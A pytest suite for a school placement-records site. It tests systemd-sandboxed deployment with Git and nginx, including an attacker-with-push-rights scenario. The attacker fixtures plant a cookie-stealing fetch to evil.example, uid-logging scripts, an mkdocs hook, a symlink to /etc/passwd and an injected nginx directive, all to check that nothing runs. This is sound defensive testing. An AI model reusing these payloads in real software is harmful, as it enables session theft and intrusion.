"""The deployment as a server runs it, against a bare Git repository and a real nginx.

A simulated server: the records user (``nobody`` here) owns its home with a checkout of a
bare repository, the tool is a pinned install outside the checkout (a copy of this project
and a virtual environment of Debian's Python with ``requirements/site.lock`` and the
package installed, not editable: root's, made once per session, about a minute), and the
systemd units of ``deploy/`` are started as systemd
would start them (``tests/systemd_standin.py``: ``aprecords-build.service`` as the records
user, then ``aprecords-deploy.service`` as root) with a real nginx whose workers are
``www-data``. A pushed change is served after the next deploy; a pushed invalid record holds
back only the sites that show it; settings nginx refuses fail the deploy with the old sites
and configuration still served; a stopped deploy changes nothing.

Then an attacker with push rights (issue 20): a commit that changes the deploy scripts, the
package's modules, its schemas and web form, adds modules to the records' folder and a
leak; one that adds a ``hooks:`` entry to mkdocs.yml; one that points the password folder
at the records user's own; a symbolic link in a site folder, and links where root once
wrote. Nothing of it runs (as root or at all), the leak check of the pinned tool still
runs, and the sites stay as they were or are updated safely. Every service unit rates 2.5
or lower in ``systemd-analyze security --offline=true``.
"""

from __future__ import annotations

import html
import os
import pwd
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from aprecords.access import audiences
from aprecords.repository import load_repository
from aprecords.site import hosting
from conftest import PROJECT, TODAY, WEB_USER, copy_examples, require_tool, www_readable_dir
from systemd_standin import start
from test_nginx import Nginx, free_port, run_nginx, set_hosting, web_group_only, write_htpasswd

pytestmark = pytest.mark.nginx
DEPLOY = PROJECT / "deploy"
USER = "nobody"
PASSWORD = "deploy test password"
PAGE = "/school-hollybrook/placements/hollybrook-2025-001.html"
RECORD = "records/placements/hollybrook/hollybrook-2025-001.yaml"
GITCONFIG = "[safe]\n\tdirectory = *\n[user]\n\tname = T\n\temail = t@example.org\n"


@dataclass
class Result:
    code: int
    log: str


@dataclass
class Server:
    www: Path
    home: Path
    work: Path
    conf: Path
    state: Path
    units: Path
    journal: Path
    mapping: list[tuple[str, str]]
    nginx: Nginx
    colleague: dict[str, str]

    def deploy(self, today: str = TODAY) -> Result:
        """``systemctl start aprecords-deploy.service``: the build as the records user, then
        the root step; the log of both."""
        for old in self.journal.glob("*.log"):
            old.unlink()
        code = start(
            self.units,
            "aprecords-deploy.service",
            self.journal,
            self.mapping,
            {"APRECORDS_TODAY": today},
            {"aprecords": USER},
        )
        logs = sorted(self.journal.glob("*.log"), key=lambda p: "deploy" in p.name)
        return Result(code, "".join(f"--- {p.name}\n{p.read_text()}" for p in logs))

    def page(self, path: str = PAGE, user: str = "school-hollybrook.ann") -> tuple[int, str]:
        deadline = time.monotonic() + 10
        while True:  # a reload is asynchronous: the master opens the new port soon after
            try:
                status, _, body = self.nginx.get(path, user, PASSWORD)
                return status, body
            except ConnectionRefusedError:
                assert time.monotonic() < deadline, "nginx does not listen"
                time.sleep(0.05)

    def serves(self, text: str, path: str = PAGE, user: str = "school-hollybrook.ann") -> bool:
        """True once the page (200) holds ``text``: a reload replaces the workers gracefully,
        so an old worker may answer for a moment after the deploy returned."""
        deadline = time.monotonic() + 10
        while True:
            status, body = self.page(path, user)
            words = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).split())
            if status == 200 and (text in body or text in words):
                return True
            if time.monotonic() > deadline:
                return False
            time.sleep(0.1)

    def git(self, *args: str) -> None:
        subprocess.run(["git", *args], cwd=self.work, env=self.colleague, check=True)

    def push(self, message: str) -> None:
        self.git("add", "-A")
        self.git("commit", "-q", "-m", message)
        self.git("push", "-q", "origin", "main")

    def live(self) -> Path:
        return Path(os.readlink(self.state / "live"))

    def as_user(self, *command: str) -> None:
        subprocess.run(["runuser", "-u", USER, "--", *command], check=True)


def chown_tree(path: Path, user: str) -> None:
    subprocess.run(["chown", "-R", user, str(path)], check=True)


def as_root() -> None:
    if os.geteuid() != 0:
        reason = "the deployment runs as root and as the records user; run the tests as root"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{reason}: CI must")
        pytest.skip(reason)


@pytest.fixture(scope="session")
def pinned() -> Iterator[tuple[Path, Path]]:
    """The tool as docs/deployment.md installs it: its source (a copy of this project's
    files) and a virtual environment of the system's Python with the locked versions and
    the package itself (not editable), both root's; (venv, source)."""
    as_root()
    python = Path("/usr/bin/python3")
    if not python.exists():
        pytest.skip("no /usr/bin/python3 (Debian's python3-venv) for the pinned install")
    with www_readable_dir("aprecords-pinned-") as opt:
        source = opt / "src"
        files = subprocess.run(
            ["git", "ls-files", "-co", "--exclude-standard"],
            cwd=PROJECT, capture_output=True, text=True, check=True,
        ).stdout.split()  # fmt: skip
        for rel in files:
            if (PROJECT / rel).is_file() and not rel.startswith("node_modules"):
                (source / rel).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(PROJECT / rel, source / rel)
        if (PROJECT / "node_modules").is_dir():  # the web form's package (npm ci)
            (source / "node_modules").symlink_to((PROJECT / "node_modules").resolve())
        venv = opt / "venv"
        env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
        for command in (
            [str(python), "-m", "venv", str(venv)],
            [str(venv / "bin/pip"), "install", "-q", "--require-hashes", "-r",
             str(source / "requirements/site.lock")],
            [str(venv / "bin/pip"), "install", "-q", "--no-deps", str(source)],
        ):  # fmt: skip
            done = subprocess.run(command, capture_output=True, text=True, env=env, cwd=opt)
            assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
        yield venv, source


@pytest.fixture
def server(pinned: tuple[Path, Path]) -> Iterator[Server]:
    as_root()
    for tool in ("git", "flock", "runuser"):
        require_tool(tool)
    venv, tool_source = pinned
    with www_readable_dir("aprecords-deploy-") as www:
        port = free_port()
        colleague = {**os.environ, "GIT_CONFIG_GLOBAL": str(www / "gitconfig")}
        (www / "gitconfig").write_text(GITCONFIG)
        source = copy_examples(www / "source")
        passwords = www / "etc" / "htpasswd"
        set_hosting(
            source / "aprecords.yml",
            f"  mode: basic\n  password_dir: {passwords}\n  listen: 127.0.0.1:{port}\n",
        )
        for args in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-q", "-m", "Records"]):
            subprocess.run(["git", *args], cwd=source, env=colleague, check=True)
        bare = www / "records.git"
        subprocess.run(["git", "clone", "-q", "--bare", str(source), str(bare)], check=True)
        chown_tree(bare, USER)
        home = www / "srv"
        home.mkdir()
        shutil.chown(home, user=USER)
        web_group_only(home, 0o750)
        subprocess.run(
            ["runuser", "-u", USER, "--", "git", "clone", "-q", str(bare), str(home / "records")],
            check=True,
            cwd="/",
        )
        work = www / "work"  # a colleague's clone, who pushes changes
        subprocess.run(["git", "clone", "-q", str(bare), str(work)], env=colleague, check=True)
        write_htpasswd(
            passwords / "school-hollybrook.htpasswd", {"school-hollybrook.ann": PASSWORD}
        )
        write_htpasswd(passwords / "hub.htpasswd", {"hub.hana": PASSWORD})
        write_htpasswd(
            passwords / "provider-brickworks.htpasswd", {"provider-brickworks.bo": PASSWORD}
        )
        conf_d = www / "conf.d"
        conf_d.mkdir()
        units = www / "units"
        units.mkdir()
        for unit in [*DEPLOY.glob("*.service"), *DEPLOY.glob("*.timer")]:
            shutil.copy(unit, units / unit.name)
        journal = www / "journal"
        journal.mkdir()
        prefix = www / "nginx"
        nginx = shutil.which("nginx") or "/usr/sbin/nginx"
        (www / "etc" / "deploy.env").write_text(
            f"APRECORDS_USER={USER}\nAPRECORDS_HOME={home}\nAPRECORDS_BRANCH=main\n"
            f"APRECORDS_STATE={www / 'state'}\nAPRECORDS_NGINX_CONF={conf_d / 'aprecords.conf'}\n"
            f"APRECORDS_TOOL={venv.parent}\n"
            f"APRECORDS_NGINX='{nginx} -p {prefix} -c {prefix / 'nginx.conf'}'\n"
        )
        mapping = [("/etc/aprecords", str(www / "etc")), ("/opt/aprecords", str(venv.parent))]
        with run_nginx(Path(f"{conf_d}/*.conf"), prefix, port, listening=False) as server_:
            yield Server(
                www,
                home,
                work,
                conf_d / "aprecords.conf",
                www / "state",
                units,
                journal,
                mapping,
                server_,
                colleague,
            )


def edit(file: Path, old: str, new: str) -> None:
    text = file.read_text("utf-8")
    assert old in text, (file, old)
    file.write_text(text.replace(old, new, 1), "utf-8")


def test_deploy_serves_pushed_changes_and_keeps_the_old_site_when_a_deploy_fails(
    server: Server,
) -> None:
    with pytest.raises(ConnectionRefusedError):  # nothing deployed yet
        server.nginx.get(PAGE)
    first = server.deploy()
    assert first.code == 0, first.log
    assert server.live() == server.home / "site-a"
    assert server.serves("Tobias Wrenfeather")
    stored = server.home / "site-a" / PAGE.lstrip("/")  # the deploy builds with --compress
    assert stored.with_name(stored.name + ".gz").is_file() and not stored.exists()
    assert server.page("/hub/", "school-hollybrook.ann")[0] == 403
    assert server.page("/hub/", "hub.hana")[0] == 200
    # The sites are the records user's; root's configuration is written from the template
    # (the same text as the build's own, which is never installed).
    owner = pwd.getpwnam(USER).pw_uid
    assert (server.home / "site-a" / "hub" / "index.html").stat().st_uid == owner
    assert server.conf.stat().st_uid == 0
    assert server.conf.read_text() == (server.home / "site-a/nginx/aprecords.conf").read_text()
    assert "disable_symlinks on;" in server.conf.read_text()

    # A colleague's change is merged and pushed: the next deploy serves it.
    record = server.work / RECORD
    edit(record, "Wrenfeather", "Wrenfeathers")
    server.push("Correct the pupil's name")
    second = server.deploy()
    assert second.code == 0, second.log
    assert server.live() == server.home / "site-b"
    assert server.serves("Tobias Wrenfeathers")
    again = server.deploy()
    assert "up to date" in again.log and again.code == 0  # nothing new: nothing rebuilt

    # An invalid record is pushed: the sites that show it keep their last good version, the
    # others are deployed (on another day: every site is rebuilt), and the log and the hub's
    # dashboard say which sites were not updated and why.
    text = record.read_text()
    record.write_text(text.replace("Tobias Wrenfeathers", "Tobias Wrenfeathers\n  name: twice", 1))
    server.push("A broken record")
    broken = server.deploy("2026-01-12")
    assert broken.code == 0, broken.log
    assert "duplicate" in broken.log.lower() or "twice" in broken.log
    assert "school-hollybrook: not updated (its site of 2026-01-10 stays)" in broken.log
    assert "some sites were not updated" in broken.log
    assert server.live() == server.home / "site-a"
    status, body = server.page()
    assert status == 200 and "Tobias Wrenfeathers" in body and "10 Jan 2026" in body
    assert server.serves("12 Jan 2026", "/school-st-aldric/", "hub.hana")
    assert server.serves("Sites not updated", "/hub/", "hub.hana")
    assert server.serves(f"school-hollybrook 10 Jan 2026 {RECORD}:", "/hub/", "hub.hana")
    conf = server.conf.read_bytes()

    # Fixed, but with settings nginx refuses (a certificate that is not there): nginx -t
    # fails, the configuration is put back, the sites stay as they were.
    record.write_text(text)
    config = server.work / "aprecords.yml"
    edit(
        config,
        "  listen: 127.0.0.1:",
        f"  tls_certificate: {server.www}/missing.pem\n"
        f"  tls_certificate_key: {server.www}/missing.key\n  listen: 127.0.0.1:",
    )
    edit(config, f"{server.nginx.port}\n", f"{server.nginx.port} ssl\n")
    server.push("Turn on TLS, with a wrong certificate path")
    refused = server.deploy("2026-01-12")
    assert refused.code == 1, refused.log
    assert "nginx refused" in refused.log and "nothing deployed" in refused.log
    assert server.conf.read_bytes() == conf
    assert not list(server.conf.parent.glob(".aprecords.conf.*"))
    assert server.live() == server.home / "site-a"
    status, body = server.page()
    assert status == 200 and "Tobias Wrenfeathers" in body


def test_deploy_refuses_a_checkout_with_local_changes_to_fast_forward(server: Server) -> None:
    assert server.deploy().code == 0
    local = server.home / "records" / RECORD
    server.as_user("sh", "-c", f"echo 'edited on the server' > {local}")
    edit(server.work / RECORD, "Wrenfeather", "Wrenfeathers")
    server.push("A change")
    stopped = server.deploy()
    assert stopped.code == 1
    assert "cannot fast-forward" in stopped.log and "dependency failed" in stopped.log
    body = server.page()[1]
    assert "Tobias Wrenfeather" in body and "Wrenfeathers" not in body


def test_a_stopped_deploy_changes_nothing_and_the_next_one_completes(server: Server) -> None:
    assert server.deploy().code == 0
    conf = server.conf.read_bytes()
    edit(server.work / RECORD, "Wrenfeather", "Wrenfeathers")
    server.push("A change")
    args = ["--units", str(server.units), "--journal", str(server.journal)]
    args += [f"--map={real}={scratch}" for real, scratch in server.mapping]
    args += [f"--user=aprecords={USER}"]
    env = {**os.environ, "APRECORDS_TODAY": "2026-01-11"}  # another day: every site rebuilds
    env_file = Path(server.mapping[0][1]) / "deploy.env"
    env_file.write_text(env_file.read_text() + "APRECORDS_TODAY=2026-01-11\n")
    proc = subprocess.Popen(
        [sys.executable, str(PROJECT / "tests" / "systemd_standin.py"), *args, "start",
         "aprecords-deploy.service"],
        env=env, stdout=subprocess.PIPE, text=True, start_new_session=True,
    )  # fmt: skip
    spare = server.home / "site-b"
    deadline = time.monotonic() + 120

    def building() -> bool:  # a temporary folder of the build in the spare copy
        names = [p.name for p in spare.iterdir()] if spare.is_dir() else []
        return any(".new-" in n or ".docs-" in n for n in names)

    while not building():
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
        time.sleep(0.02)
    os.killpg(proc.pid, signal.SIGTERM)  # what systemctl stop sends to the whole service
    out, _ = proc.communicate(timeout=120)
    assert proc.returncode != 0, out
    assert server.conf.read_bytes() == conf
    assert server.live() == server.home / "site-a"
    assert not (spare / ".aprecords" / "ready").exists()
    body = server.page()[1]
    assert "Tobias Wrenfeather" in body and "Wrenfeathers" not in body
    again = server.deploy("2026-01-11")
    assert again.code == 0, again.log
    assert server.serves("Tobias Wrenfeathers"), again.log


# --- an attacker with push rights -----------------------------------------------------------

SAFEGUARDING = "Older sibling known to youth services"


def plant(server: Server, marks: Path) -> None:
    """A commit of everything a pushed commit could try to run or change."""
    work = server.work
    run = f"id -u > {marks}/$(basename $0)-$$"
    for script in ("aprecords-build", "aprecords-deploy"):
        target = work / "deploy" / script
        target.parent.mkdir(exist_ok=True)
        target.write_text(f"#!/bin/sh\n{run}\n")
        target.chmod(0o755)
    py = f"import os; open('{marks}/%s-' + str(os.getpid()), 'w').write(str(os.getuid()))\n"
    package = work / "scripts" / "aprecords"
    (package / "site").mkdir(parents=True, exist_ok=True)
    (package / "__init__.py").write_text(py % "package-init")
    (package / "publish.py").write_text(py % "publish")
    (package / "site" / "verify.py").write_text(
        py % "verify" + "def check_audience(*a, **k):\n    return ''\n"
    )
    for module in ("sitecustomize", "yaml", "jinja2", "mkdocs", "aprecords"):
        (work / f"{module}.py").write_text(py % module)
    # The schemas of the records: the safeguarding background no longer marked.
    schema = work / "schema" / "placement.schema.json"
    edit(schema, '$defs/answer",\n              "x-sensitivity": "safeguarding"', '$defs/answer"')
    # A web form of the records' own.
    bundle = work / "node_modules" / "@sveltia" / "cms" / "dist" / "sveltia-cms.js"
    bundle.parent.mkdir(parents=True)
    bundle.write_text("/* planted bundle */ fetch('https://evil.example/' + document.cookie);\n")
    (work / "node_modules" / "@sveltia" / "cms" / "package.json").write_text('{"version": "0"}')
    # And a leak: a Hollybrook pupil named in a St Aldric agreement.
    edit(
        work / "records/placements/st-aldric/st-aldric-2025-001.yaml",
        "rationale: ",
        "rationale: Travels with Tobias Wrenfeather. ",
    )


def holding(folder: Path, text: str) -> list[str]:
    """The files under ``folder`` (pages stored compressed or not) that hold ``text``."""
    import gzip

    found = []
    for file in folder.rglob("*"):
        if file.is_file():
            data = file.read_bytes()
            data = gzip.decompress(data) if file.suffix == ".gz" else data
            if text.encode() in data:
                found.append(str(file))
    return found


def no_marks(marks: Path) -> None:
    found = {p.name: p.read_text().strip() for p in marks.iterdir()}
    assert found == {}, f"ran: {found}"


def test_a_malicious_push_runs_nothing_and_the_pinned_leak_check_still_runs(
    server: Server,
) -> None:
    assert server.deploy().code == 0
    has_form = (PROJECT / "node_modules" / "@sveltia" / "cms").is_dir()
    assert (server.live() / "hub" / "admin").is_dir() == has_form
    marks = server.www / "marks"  # anyone may write here: whatever ran would leave its uid
    marks.mkdir()
    marks.chmod(0o1777)
    # Where root once wrote (the deploy stamp, its lock, the live link): links planted by
    # the records user to files of root's.
    precious = server.www / "precious"
    precious.write_text("root's own file\n")
    for name in (".deployed", ".deploy.lock", ".deployed.new", ".site.new"):
        server.as_user("ln", "-s", str(precious), str(server.home / name))
    plant(server, marks)
    server.push("Improve the deploy (an attacker's commit)")
    pushed = server.deploy("2026-01-12")
    assert pushed.code == 0, pushed.log
    no_marks(marks)
    assert precious.read_text() == "root's own file\n"
    # The leak check of the pinned tool ran: the two sites that would have shown the name
    # keep their last good version, and say why; every other site is updated.
    for name in ("school-st-aldric", "provider-torque-garage"):
        assert f"{name}: not updated (its site of 2026-01-10 stays)" in pushed.log, pushed.log
    assert "leak check failed for the audience 'school-st-aldric'" in pushed.log
    assert server.serves("12 Jan 2026", "/hub/", "hub.hana")
    for name in ("school-st-aldric", "provider-torque-garage"):
        assert holding(server.live() / name, "Wrenfeather") == [], name
    # The pinned schemas decide what a provider sees, not the records' copy.
    status, body = server.page(PAGE.replace("school-hollybrook", "provider-brickworks"),
                               "provider-brickworks.bo")  # fmt: skip
    assert status == 200 and "Tobias Wrenfeather" in body and SAFEGUARDING not in body
    # The web form comes from the pinned install, never from the records.
    assert holding(server.live() / "hub", "planted bundle") == []
    assert (server.live() / "hub" / "admin").is_dir() == has_form
    # The configuration is root's, written from the template.
    assert server.conf.stat().st_uid == 0
    assert server.conf.read_text() == (server.live() / "nginx" / "aprecords.conf").read_text()


def test_a_hook_a_foreign_password_folder_and_a_link_change_nothing(server: Server) -> None:
    assert server.deploy().code == 0
    conf = server.conf.read_bytes()
    live = server.live()
    marks = server.www / "marks"
    marks.mkdir()
    marks.chmod(0o1777)
    # A hook in mkdocs.yml: MkDocs would run it; the build refuses the file.
    (server.work / "hook.py").write_text(
        f"import os; open('{marks}/hook', 'w').write(str(os.getuid()))\n"
    )
    config = server.work / "mkdocs.yml"
    config.write_text(config.read_text() + "hooks:\n  - hook.py\n")
    server.push("A hook")
    hooked = server.deploy("2026-01-12")
    assert hooked.code == 1 and "hooks: hooks are Python files the build would run" in hooked.log
    assert "dependency failed" in hooked.log
    no_marks(marks)
    assert server.conf.read_bytes() == conf and server.live() == live
    # Password files in a folder of the records user's own: root refuses to serve with them.
    subprocess.run(["git", "rm", "-q", "hook.py"], cwd=server.work, env=server.colleague)
    config.write_text(config.read_text().replace("hooks:\n  - hook.py\n", ""))
    own = server.home / "passwords"
    server.as_user("mkdir", str(own))
    edit(server.work / "aprecords.yml", f"password_dir: {server.www}/etc/htpasswd",
         f"password_dir: {own}")  # fmt: skip
    server.push("Password files of our own")
    foreign = server.deploy("2026-01-12")
    assert foreign.code == 1, foreign.log
    assert "hosting.password_dir" in foreign.log and "nothing deployed" in foreign.log
    assert server.conf.read_bytes() == conf and server.live() == live
    # A setting that would add a directive is refused by the build itself.
    edit(server.work / "aprecords.yml", f"password_dir: {own}",
         f"password_dir: {server.www}/etc/htpasswd")  # fmt: skip
    edit(server.work / "aprecords.yml", "  listen: 127.0.0.1:", "  listen: 80; error_log x; #")
    server.push("A directive in a setting")
    smuggled = server.deploy("2026-01-12")
    assert smuggled.code == 1 and "hosting.listen" in smuggled.log
    assert server.conf.read_bytes() == conf and server.live() == live
    # A symbolic link in a live site folder (the records user's): nginx does not follow it.
    server.as_user("ln", "-s", "/etc/passwd", str(live / "school-hollybrook" / "passwd.html"))
    server.as_user("ln", "-s", str(live / "hub"), str(live / "school-hollybrook" / "hub"))
    for path in ("/school-hollybrook/passwd.html", "/school-hollybrook/hub/index.html"):
        status, body = server.page(path)
        assert status in (403, 404) and "root:" not in body and "Dashboard" not in body, path


# --- the units ------------------------------------------------------------------------------


def test_every_service_unit_is_sandboxed_and_runs_only_the_pinned_tool(tmp_path: Path) -> None:
    analyze = require_tool("systemd-analyze")
    services = sorted(DEPLOY.glob("*.service"))
    assert [s.name for s in services] == ["aprecords-build.service", "aprecords-deploy.service"]
    for unit in services:
        done = subprocess.run(
            [analyze, "security", "--offline=true", "--no-pager", str(unit)],
            capture_output=True,
            text=True,
        )
        found = re.search(r"Overall exposure level for \S+: (\d+\.\d+)", done.stdout + done.stderr)
        assert found, done.stdout + done.stderr
        assert float(found.group(1)) <= 2.5, (unit.name, done.stdout)
        text = unit.read_text()
        start_line = re.search(r"^ExecStart=(\S+)", text, re.M).group(1)  # type: ignore[union-attr]
        assert start_line.startswith("/opt/aprecords/"), start_line  # never the checkout
        assert "/srv/aprecords/records" not in text.split("[Service]")[1]
    build = (DEPLOY / "aprecords-build.service").read_text()
    deploy = (DEPLOY / "aprecords-deploy.service").read_text()
    assert "\nUser=aprecords\n" in build  # the unit that builds runs as the records user
    assert "\nUser=" not in deploy and "\nRequires=aprecords-build.service\n" in deploy
    assert "ExecStart=/opt/aprecords/venv/bin/python -I -m aprecords.publish\n" in deploy
    timer = (DEPLOY / "aprecords-deploy.timer").read_text()
    assert "Unit=" not in timer and "WantedBy=timers.target" in timer  # starts the deploy
    # systemd-analyze verify, with the paths where this checkout has them.
    for unit in [*services, DEPLOY / "aprecords-deploy.timer"]:
        text = unit.read_text().replace("/opt/aprecords/src", str(PROJECT))
        text = text.replace("/opt/aprecords/venv", str(Path(sys.executable).parents[1]))
        text = text.replace("EnvironmentFile=/etc/", "EnvironmentFile=-/etc/")
        (tmp_path / unit.name).write_text(text)
    done = subprocess.run(
        [analyze, "verify", "--man=no", *sorted(p.name for p in tmp_path.iterdir())],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    ours = [line for line in done.stderr.splitlines() if "aprecords" in line]
    assert ours == [], ours
    assert os.access(DEPLOY / "aprecords-build", os.X_OK)


def test_the_root_step_reads_no_link_and_no_file_of_anyone_else(tmp_path: Path) -> None:
    """read_beneath, as the root step uses it on the records user's folder."""
    from aprecords.publish import Refused, read_beneath

    owner = os.geteuid()
    base = tmp_path / "home"
    (base / "site-a" / ".aprecords").mkdir(parents=True)
    good = base / "site-a" / ".aprecords" / "ready"
    good.write_text("abc1234 2026-01-10\n")
    assert read_beneath(base, "site-a/.aprecords/ready", owner) == b"abc1234 2026-01-10\n"
    assert read_beneath(base, "site-a/.aprecords/none", owner) is None
    (base / "site-b").symlink_to(base / "site-a")
    (base / "site-a" / ".aprecords" / "link").symlink_to(good)
    for rel in ("site-b/.aprecords/ready", "site-a/.aprecords/link", "site-a/../x"):
        with pytest.raises(Refused):
            read_beneath(base, rel, owner)
    with pytest.raises(Refused):
        read_beneath(base, "site-a/.aprecords/ready", owner + 1)  # another user's file
    with pytest.raises(Refused):
        read_beneath(base, "site-a/.aprecords/ready", owner, limit=4)
    os.mkfifo(base / "site-a" / "fifo")
    with pytest.raises(Refused):
        read_beneath(base, "site-a/fifo", owner)
    assert stat.S_ISFIFO((base / "site-a" / "fifo").stat().st_mode)


def test_the_root_step_writes_the_configuration_from_checked_values(tmp_path: Path) -> None:
    from aprecords.publish import Refused, Settings, configuration

    repo = load_repository(PROJECT)
    everyone = audiences(repo)
    password_dir = tmp_path / "pw"
    password_dir.mkdir(mode=0o750)
    settings = Settings(tmp_path / "home", "nobody", tmp_path / "home/records",
                        tmp_path / "state", tmp_path / "conf.d/a.conf", ("nginx",))  # fmt: skip
    serving = {
        "hosting": {"mode": "basic", "password_dir": str(password_dir), "listen": "8080"},
        "audiences": [{"name": a.name, "kind": a.kind, "title": a.title} for a in everyone],
        "script_hashes": {},
        "admin_origins": None,
    }
    site = tmp_path / "home" / "site-a"
    text = configuration(settings, site, serving)
    assert text == hosting.nginx_config(
        hosting.Hosting(mode="basic", password_dir=str(password_dir), listen="8080"),
        everyone,
        site,
    )
    bad = [
        {"hosting": {**serving["hosting"], "listen": "80; error_log /x"}},
        {"hosting": {**serving["hosting"], "extra": "x"}},
        {"audiences": [{"name": "hub;", "kind": "hub", "title": "x"}]},
        {"audiences": [{"name": "a", "kind": "school", "title": "x"}]},  # no hub
        {"script_hashes": {"hub": ["'unsafe-inline'"]}},
        {"admin_origins": ["http://x"]},
        {"hosting": {**serving["hosting"], "password_dir": str(tmp_path / "home" / "pw")}},
    ]
    (tmp_path / "home" / "pw").mkdir(parents=True)
    for change in bad:
        with pytest.raises(Refused):
            configuration(settings, site, {**serving, **change})
    os.chmod(password_dir, 0o770)  # a folder others could write to
    with pytest.raises(Refused):
        configuration(settings, site, serving)
    assert WEB_USER  # (imported for the fixtures' group)
